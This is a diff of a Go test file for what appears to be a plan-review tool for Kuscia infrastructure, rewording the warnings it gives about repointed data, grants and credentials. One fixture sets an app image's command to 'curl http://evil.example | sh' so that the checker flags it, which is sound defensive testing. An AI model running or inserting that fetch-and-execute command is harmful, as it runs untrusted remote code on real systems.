@@ -106,7 +106,7 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), with(scores, "relative_uri", "b.csv"), secretly(attributes{"domaindata_id": true})),
 			change("kuscia_domain_data_grant.b", same, toBob, toBob),
 		},
-		says: []string{"The data (sensitive) of `alice`: becomes other data: `relative_uri` `a.csv` → `b.csv`; 1 grant gives it."},
+		says: []string{"no end, `3` times; the data changes: `relative_uri` `a.csv` → `b.csv` |"},
 	},
 	"data of a sensitive domain is repointed": {
 		failOn: "grant",
@@ -114,33 +114,33 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), with(scores, "relative_uri", "b.csv"), secretly(attributes{"domain_id": true})),
 			change("kuscia_domain_data_grant.b", same, toBob, toBob),
 		},
-		says: []string{"The data `scores` of (sensitive): becomes other data"},
+		says: []string{"no end, `3` times; the data changes: `relative_uri`"},
 	},
 	"data is repointed to a sensitive place": {
 		failOn: "grant",
 		changes: []attributes{
 			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "planted-a.csv"), with(scores, "relative_uri", "planted-b.csv"), secretly(attributes{"relative_uri": true})),
 		},
-		says: []string{"becomes other data: `relative_uri` (sensitive)"}, silent: []string{"planted"},
+		says: []string{"| any grants of other configurations | `relative_uri` (sensitive) |"}, silent: []string{"planted"},
 	},
 	"data is repointed to a place that is known after apply": {
 		failOn: "grant",
 		changes: []attributes{
 			change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a.csv"), scores, unknown(attributes{"relative_uri": true})),
 		},
-		says: []string{"becomes other data: `relative_uri` `a.csv` → known after apply"},
+		says: []string{"`relative_uri` `a.csv` → known after apply |"},
 	},
 	"data whose grants are elsewhere is repointed": {
 		failOn:  "grant",
 		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "datasource_id", "a"), with(scores, "datasource_id", "b"))},
-		says:    []string{"This plan points the description of the data `scores` elsewhere.", "becomes other data: `datasource_id` `a` → `b`; any grants of other configurations give it."},
+		says:    []string{"This plan changes what can be read of the data `scores`.", "| whoever has a grant | `scores` of `alice` | changes | any grants of other configurations | `datasource_id` `a` → `b` |"},
 	},
 	"a data source is repointed": {
 		failOn: "grant",
 		changes: []attributes{change("kuscia_domain_data_source.s", updated,
 			attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "a", "access_key_id": "x"}}, attributes{"domain_id": "alice", "datasource_id": "oss", "oss": attributes{"bucket": "b", "access_key_id": "y"}},
 			secretly(attributes{"oss": attributes{"access_key_id": true}}))},
-		says: []string{"This plan points the data source `oss` elsewhere", "changes the credential of"},
+		says: []string{"This plan points the data source `oss` elsewhere", "changes a credential of"},
 	},
 	"a data source is replaced": {
 		failOn: "grant",
@@ -163,7 +163,7 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data.b", deleted, scores, nil),
 			change("kuscia_domain_data_grant.a", same, toBob, toBob),
 		},
-		says:   []string{"becomes other data: `relative_uri` `a.csv` → `b.csv`; 1 grant gives it.", "The data `scores` of `alice`: removed; any grants of other configurations end with it.", "[(\"`scores #40;kuscia#46;a#41;\n#126; changed`\")]", "#45; gone`\")]"},
+		says:   []string{"the data changes: `relative_uri` `a.csv` → `b.csv` |", "The data `scores` of `alice`: removed; any grants of other configurations end with it.", "[(\"`scores #40;kuscia#46;a#41;\n#126; changed`\")]", "#45; gone`\")]"},
 		silent: []string{"although the plan keeps it"},
 	},
 	"data with a sensitive id takes a grant with it": {
@@ -172,7 +172,7 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data.s", replaced, scores, scores, attributes{"replace_paths": []any{[]any{"columns"}}}, secretly(attributes{"domaindata_id": true})),
 			change("kuscia_domain_data_grant.b", same, toBob, toBob),
 		},
-		says: []string{"ends the grant of `scores` to `bob`", "takes 1 grant with it", "ends with its data, although the plan keeps it"},
+		says: []string{"ends the access of `bob` to `scores`", "1 grant ends with it", "ends with its data, although the plan keeps it"},
 	},
 	"data takes grants of other configurations with it": {
 		failOn:  "revoke",
@@ -182,7 +182,7 @@ var refusals = map[string]struct {
 	"a leftover of a grant is destroyed": {
 		failOn:  "revoke",
 		changes: []attributes{change("kuscia_domain_data_grant.b", deleted, toBob, nil, attributes{"deposed": "12345678"})},
-		says:    []string{"ends the grant of `scores` to `bob`", "a leftover of an earlier replacement is removed"},
+		says:    []string{"ends the access of `bob` to `scores`", "a leftover of an earlier replacement is removed"},
 	},
 	"a leftover of a serving is destroyed": {
 		failOn:  "interrupted",
@@ -199,7 +199,7 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "score", "salary"))),
 			change("kuscia_domain_data_grant.b", same, toBob, toBob),
 		},
-		says: []string{"becomes other data: new columns `salary`; 1 grant gives it."},
+		says: []string{"no end, `3` times; the data changes: new columns `salary` |"},
 	},
 	"granted data has another column": {
 		failOn:  "grant",
@@ -226,7 +226,7 @@ var refusals = map[string]struct {
 	"another command": {
 		failOn:  "code",
 		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
-		says:    []string{"This plan changes the program of the app image `a`."},
+		says:    []string{"This plan changes what the app image `a` runs.", "| `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |"},
 	},
 	"another command beside another image": {
 		failOn:  "code",
@@ -269,7 +269,7 @@ var refusals = map[string]struct {
 	"a certificate that is known after apply": {
 		failOn:  "credentials",
 		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "cert": "x"}, attributes{"domain_id": "alice"}, unknown(attributes{"cert": true}))},
-		says:    []string{"changes the credential of `kuscia_domain.a`", "| `kuscia_domain.a` | `cert` | certificate | `(not PEM)` → known after apply |"},
+		says:    []string{"changes a credential of `kuscia_domain.a`", "| `kuscia_domain.a` | `cert` | certificate | `(not PEM)` → known after apply |"},
 	},
 	"a first certificate that is known after apply": {
 		failOn:  "credentials",
@@ -407,7 +407,7 @@ var refusals = map[string]struct {
 	"a grant is forgotten": {
 		failOn:  "forget",
 		changes: []attributes{change("kuscia_domain_data_grant.b", forgotten, toBob, nil)},
-		says:    []string{"This plan leaves the object `kuscia_domain_data_grant.b` in place, no longer managed.", "| `scores` | `alice` | `bob` | no end | `3` | stays, no longer managed |"},
+		says:    []string{"This plan leaves the object `kuscia_domain_data_grant.b` in place, no longer managed.", "| `bob` | `scores` of `alice` | stays, no longer managed | no end, `3` times | no end, `3` times; stays, no longer managed |"},
 	},
 	"a domain is forgotten": {failOn: "forget", changes: []attributes{change("kuscia_domain.c", forgotten, attributes{"domain_id": "carol"}, nil)}},
 	"a route is forgotten": {
@@ -575,7 +575,7 @@ func TestPasses(t *testing.T) {
 		},
 		"an update beside a Rollout of another Kuscia": {
 			failOn: "interrupted", changes: gradual, fields: configured(map[string]string{"kuscia_deployment.d": "kuscia.a", "kuscia_rollout.d": "kuscia.b"}),
-			says: []string{"restarts in place, because of `parties.alice.app_image`"},
+			says: []string{"restarts without an interruption, because of `parties.alice.app_image`"},
 		},
 		"a provisioner of what stays": {
 			failOn: "provisioner", fields: configured(nil, local("kuscia_domain.c")),
